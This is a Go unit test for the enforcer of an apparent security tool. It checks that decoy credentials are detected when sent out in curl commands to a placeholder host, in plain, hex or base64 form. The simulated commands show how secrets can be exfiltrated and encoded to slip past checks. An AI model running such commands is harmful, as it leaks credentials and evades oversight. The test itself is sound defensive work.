package enforcer

import (
	"encoding/base64"
	"encoding/hex"
	"testing"

	"github.com/limpet-security/limpet/internal/action"
)

// A false credential is known however it is carried.
func TestBitten(t *testing.T) {
	l := &Loop{}
	d := NewDecoys([]string{"AWS_ACCESS_KEY_ID", "DB_PASSWORD", "GITHUB_TOKEN"})
	l.SetDecoys(d)
	for _, k := range d {
		for _, text := range []string{k.Value, "x" + k.Value + "yz", k.Key + "=" + k.Value + "\n"} {
			for how, arg := range map[string]string{"plain": text, "hex": hex.EncodeToString([]byte(text)), "base64": base64.StdEncoding.EncodeToString([]byte(text))} {
				e := &action.Exec{Args: []string{"curl", "http://x/?" + arg}}
				if l.bitten(e); e.Decoy != k.Key {
					t.Errorf("%s of %q: %q", how, text, e.Decoy)
				}
			}
		}
	}
	e := &action.Exec{Args: []string{"curl", "http://example.com/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}}
	if l.bitten(e); e.Decoy != "" {
		t.Error(e.Decoy)
	}
}
